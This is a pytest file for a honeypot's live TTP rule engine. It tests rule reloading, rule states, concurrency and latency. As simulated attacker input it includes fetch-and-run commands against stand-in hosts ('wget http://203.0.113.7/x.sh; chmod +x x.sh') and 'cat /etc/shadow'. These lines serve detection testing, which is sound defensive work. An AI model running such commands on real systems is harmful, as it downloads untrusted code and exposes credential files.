"""Rules that change under running evaluations."""

from __future__ import annotations

import asyncio
import math
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import TYPE_CHECKING, Self

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.attack import catalog
from decnet.models.rule_state import ENABLED, RuleState
from decnet.ttp.engine import RuleEngine
from decnet.ttp.live import LiveRules, watch_store
from decnet.ttp.pack import Pack
from decnet.ttp.store.base import LoadedRules, RuleChange
from decnet.ttp.store.compile import compile_rule
from decnet.ttp.store.filesystem import FilesystemRuleStore, default_rules_folder, load_pack
from tests.events import NOON, SECOND, a_command
from tests.ttp.store.rule_texts import rule_text, save

if TYPE_CHECKING:
    from collections.abc import Callable, Coroutine
    from typing import Any

    from decnet.models.event import Event
    from decnet.models.tag import TTPTag
    from decnet.ttp.pack import CompiledRule

WORDS = ("whoami", "uname", "id", "netstat")


def compiled(text: str) -> CompiledRule:
    rule, faults = compile_rule(Path(f"{text[9:14]}.yaml"), text, catalog.load)
    assert rule is not None, faults
    return rule


def live_of(*rules: CompiledRule) -> LiveRules:
    return LiveRules(LoadedRules(Pack(rules, ""), {}))


def text_change(rule_id: str, rule: CompiledRule | None) -> RuleChange:
    return RuleChange(rule_id, rule, ENABLED, "rule")


def state_change(rule: CompiledRule, state: RuleState) -> RuleChange:
    return RuleChange(rule.rule_id, rule, state, "state")


def shown(tags: list[TTPTag]) -> list[tuple[str, int, float]]:
    return [(tag.rule_id, tag.rule_version, tag.confidence) for tag in tags]


def run(work: Coroutine[Any, Any, None], seconds: float = 15) -> None:
    asyncio.run(asyncio.wait_for(work, seconds))


def test_a_changed_rule_is_in_force_at_the_next_event() -> None:
    live = live_of(compiled(rule_text()), compiled(rule_text("R0901", word="uname")))
    live.apply(text_change("R0900", compiled(rule_text(version=2, word="id"))))
    assert shown(live.tag(a_command("whoami"))) == []
    assert shown(live.tag(a_command("id; uname"))) == [("R0900", 2, 0.7), ("R0901", 1, 0.7)]


def test_a_deleted_rule_is_gone() -> None:
    live = live_of(compiled(rule_text()))
    live.apply(text_change("R0900", None))
    assert live.tag(a_command("whoami")) == []
    live.rebuild()
    assert live.tag(a_command("whoami")) == []


def test_a_disabled_rule_is_silent_and_a_clipped_one_less_sure() -> None:
    rule = compiled(rule_text())
    live = live_of(rule)
    live.apply(state_change(rule, RuleState("disabled")))
    assert live.tag(a_command("whoami")) == []
    live.apply(state_change(rule, RuleState("clipped", 0.4)))
    assert shown(live.tag(a_command("whoami"))) == [("R0900", 1, 0.4)]
    live.apply(state_change(rule, ENABLED))
    assert shown(live.tag(a_command("whoami"))) == [("R0900", 1, 0.7)]


def test_what_is_clipped_below_the_least_stored_confidence_is_not_written() -> None:
    rule = compiled(rule_text())
    live = live_of(rule)
    live.apply(state_change(rule, RuleState("clipped", 0.2)))
    assert live.tag(a_command("whoami")) == []


def test_states_hold_for_session_rules_too() -> None:
    text = rule_text().replace("[command]", "[session]\nphase: session_end")
    rule = compiled(text.replace("match: {contains: 'whoami'}", "match: {exec: {program: wget}}"))
    live = live_of(rule)
    events = [a_command("wget x")]
    assert [hit.rule.rule_id for hit in live.hits(events)] == ["R0900"]
    live.apply(state_change(rule, RuleState("clipped", 0.5)))
    assert [item.emit.confidence for hit in live.hits(events) for item in hit.rule.emits] == [0.5]
    live.apply(state_change(rule, RuleState("disabled")))
    assert live.hits(events) == []
    live.apply(text_change("R0900", None))
    assert live.kinds == frozenset()


def test_a_session_keeps_its_variables_through_changes() -> None:
    live = live_of(compiled(rule_text().replace("{contains: 'whoami'}", "{exec: {program: wget}}")))
    live.tag(a_command("a=wge; b=t"))
    live.apply(text_change("R0901", compiled(rule_text("R0901"))))
    live.rebuild()
    assert [tag.rule_id for tag in live.tag(a_command("$a$b x", at=NOON + SECOND))] == ["R0900"]


edits = st.lists(
    st.one_of(
        st.tuples(st.integers(0, 3), st.sampled_from(WORDS), st.none()),
        st.tuples(st.integers(0, 3), st.none(), st.none()),
        st.tuples(st.integers(0, 3), st.just("rebuild"), st.none()),
    ),
    max_size=8,
)


@settings(max_examples=60, deadline=None)
@given(edits)
def test_the_small_index_beside_the_large_one_changes_no_result(steps: list[tuple[int, str | None, None]]) -> None:
    rules = {f"R090{number}": compiled(rule_text(f"R090{number}", word=WORDS[number])) for number in range(3)}
    live = live_of(*rules.values())
    for version, (number, word, _) in enumerate(steps, 2):
        rule_id = f"R090{number}"
        if word == "rebuild":
            live.rebuild()
        elif word is None:
            rules.pop(rule_id, None)
            live.apply(text_change(rule_id, None))
        else:
            rules[rule_id] = compiled(rule_text(rule_id, word=word, version=version))
            live.apply(text_change(rule_id, rules[rule_id]))
    whole = RuleEngine(Pack(tuple(rules[rule_id] for rule_id in sorted(rules)), ""))
    for line in (*WORDS, "; ".join(WORDS), "ls"):
        assert live.tag(a_command(line)) == whole.tag(a_command(line))
    assert [rule.rule_id for rule in live.pack.rules] == sorted(rules)


def test_a_store_that_is_watched_brings_texts_and_states_into_force(tmp_path: Path) -> None:
    save(tmp_path, rule_text())
    seen: list[tuple[str, str]] = []

    async def work() -> None:
        store = FilesystemRuleStore(tmp_path, None, tmp_path / "data")
        async with watch_store(store, on_change=lambda change: seen.append((change.rule_id, change.what))) as live:
            save(tmp_path, rule_text("R0901", word="uname"))
            await until(lambda: len(seen) == 1)
            assert shown(live.tag(a_command("uname"))) == [("R0901", 1, 0.7)]
            await store.set_state("R0901", RuleState("disabled"))
            await until(lambda: len(seen) == 2)
            assert live.tag(a_command("uname")) == []
        await store.aclose()

    run(work())
    assert seen == [("R0901", "rule"), ("R0901", "state")]


def test_changes_are_folded_into_the_large_index_when_edits_pause(tmp_path: Path) -> None:
    save(tmp_path, rule_text())

    async def work() -> None:
        store = FilesystemRuleStore(tmp_path, None, tmp_path / "data")
        async with watch_store(store, pause_seconds=0.1) as live:
            save(tmp_path, rule_text(version=2))
            await until(lambda: live.recent == 1)
            await until(lambda: live.recent == 0)
            assert shown(live.tag(a_command("whoami"))) == [("R0900", 2, 0.7)]
        await store.aclose()

    run(work())


def test_a_watch_that_ends_leaves_nothing_running(tmp_path: Path) -> None:
    save(tmp_path, rule_text())

    async def work() -> None:
        store = FilesystemRuleStore(tmp_path, None, tmp_path / "data")
        async with watch_store(store):
            pass
        await store.aclose()
        assert len(asyncio.all_tasks()) <= 2  # this one and its time limit

    run(work())


async def until(holds: Callable[[], bool]) -> None:
    while not holds():  # noqa: ASYNC110 - what happens in threads sets no event
        await asyncio.sleep(0.002)


class Load:
    """Evaluates events in a thread of its own until it is stopped; keeps what each result was made of."""

    def __init__(self, live: LiveRules, line: str) -> None:
        self.live = live
        self.line = line
        self.results: set[tuple[tuple[str, int, float], ...]] = set()
        self.newest: dict[str, int] = {}
        self.went_back = False
        self.events = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run)

    def _run(self) -> None:
        while not self._stop.is_set():
            tags = self.live.tag(a_command(self.line, at=NOON + self.events))
            self.events += 1
            self.results.add(tuple(shown(tags)))
            for tag in tags:
                self.went_back |= tag.rule_version < self.newest.get(tag.rule_id, 0)
                self.newest[tag.rule_id] = tag.rule_version

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()


def two_sided(rule_id: str, version: int, word: str) -> str:
    """A rule whose two emits both tell its version by their confidence."""
    text = rule_text(rule_id, version=version, word=word, confidence=0.5 + version / 1_000)
    return text + f"  - {{tactic: TA0007, technique_id: T1082, confidence: {0.5 + version / 1_000}}}\n"


@pytest.mark.e2e
@pytest.mark.timeout(60)
def test_200_edits_under_50_000_events_mix_no_versions_and_lose_none(tmp_path: Path) -> None:
    names = [f"R09{number:02}" for number in range(20)]
    for name in names:
        save(tmp_path, two_sided(name, 1, name))
    latest: dict[str, int] = {}

    def edit(name: str) -> None:
        for version in range(2, 12):
            save(tmp_path, two_sided(name, version, name))
            time.sleep(0.08)

    async def work() -> None:
        store = FilesystemRuleStore(tmp_path, None, tmp_path / "data")
        async with watch_store(store, on_change=lambda change: _note(latest, change), pause_seconds=0.3) as live:
            with Load(live, " ".join(names)) as load, ThreadPoolExecutor(len(names)) as editors:
                await asyncio.gather(
                    *(asyncio.get_running_loop().run_in_executor(editors, edit, name) for name in names)
                )
                await until(lambda: set(latest.values()) == {11} and len(latest) == len(names))
                await until(lambda: load.events >= 50_000)
            for result in load.results:
                assert len(result) == 2 * len(names)
                for name in names:
                    versions = {(version, confidence) for rule, version, confidence in result if rule == name}
                    assert len(versions) == 1
                    ((version, confidence),) = versions
                    assert math.isclose(confidence, 0.5 + version / 1_000)
            assert not load.went_back
            assert load.newest == dict.fromkeys(names, 11)
        await store.aclose()

    run(work(), 55)


def _note(latest: dict[str, int], change: RuleChange) -> None:
    assert change.what == "rule"
    assert change.rule is not None
    latest[change.rule_id] = change.rule.rule.rule_version


@pytest.mark.e2e
@pytest.mark.timeout(60)
def test_a_saved_rule_and_a_changed_state_are_soon_in_force(tmp_path: Path) -> None:
    """On the shipped pack, under evaluation load; ten times what `bench.rules` holds a quiet machine to."""
    own = tmp_path / "own"
    save(own, rule_text("R9900", word="marker"))
    in_force: dict[int, float] = {}

    def note(change: RuleChange) -> None:
        assert change.rule is not None
        in_force[change.rule.rule.rule_version if change.what == "rule" else 1_000 + change.state.set_at] = (
            time.monotonic()
        )

    async def work() -> None:
        store = FilesystemRuleStore(default_rules_folder(), own, tmp_path / "data")
        waits: list[float] = []
        async with watch_store(store, on_change=note) as live:
            with Load(live, "cd /tmp; wget http://203.0.113.7/x.sh; chmod +x x.sh; marker"):
                for version in range(2, 102):
                    started = time.monotonic()
                    await asyncio.to_thread(save, own, rule_text("R9900", word="marker", version=version))
                    await until(lambda version=version: version in in_force)  # type: ignore[misc]
                    waits.append(in_force[version] - started)
                orders: list[float] = []
                for number in range(1, 21):
                    started = time.monotonic()
                    await store.set_state("R9900", RuleState("disabled", set_at=number))
                    await until(lambda number=number: 1_000 + number in in_force)  # type: ignore[misc]
                    orders.append(in_force[1_000 + number] - started)
        await store.aclose()
        print(f"saved → in force: p50 {sorted(waits)[50]:.3f} s, p95 {sorted(waits)[94]:.3f} s")  # noqa: T201
        print(f"state → in force: p50 {sorted(orders)[10]:.3f} s, p95 {sorted(orders)[18]:.3f} s")  # noqa: T201
        assert sorted(waits)[94] <= 5
        assert sorted(orders)[10] <= 1

    run(work(), 55)


def test_a_first_start_compiles_nothing_finds_the_same_and_later_ones_find_the_databases(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    loaded = LoadedRules(Pack(load_pack().rules[:60], "some"), {})
    events = [a_command(text, session=text) for text in ("uname -a", "cat /etc/shadow", "wget http://198.51.100.9/x")]

    def found(live: LiveRules) -> list[TTPTag]:
        return [tag for event in events for tag in live.tag(event)]

    first = LiveRules(loaded)
    was_provisional, before = first.is_provisional, found(first)
    first.rebuild()
    second = LiveRules(loaded)
    assert (was_provisional, first.is_provisional, second.is_provisional) == (True, False, False)
    assert before == found(first) == found(second) != []


def test_sessions_are_judged_while_an_event_waits_for_the_database() -> None:
    """A judge within a transaction would otherwise wait for a tagger that waits for the database: for ever."""
    is_asked, may_go_on = threading.Event(), threading.Event()

    def away(_: Event) -> list[str]:
        is_asked.set()
        may_go_on.wait(15)
        return []

    live = LiveRules(LoadedRules(Pack((compiled(rule_text()),), ""), {}), earlier_commands=away)
    with ThreadPoolExecutor(2) as threads:
        tagging = threads.submit(live.tag, a_command("whoami"))
        try:
            assert is_asked.wait(10)
            assert threads.submit(live.hits, [a_command("whoami")]).result(10) == []
        finally:
            may_go_on.set()
        assert shown(tagging.result(10)) == [("R0900", 1, 0.7)]
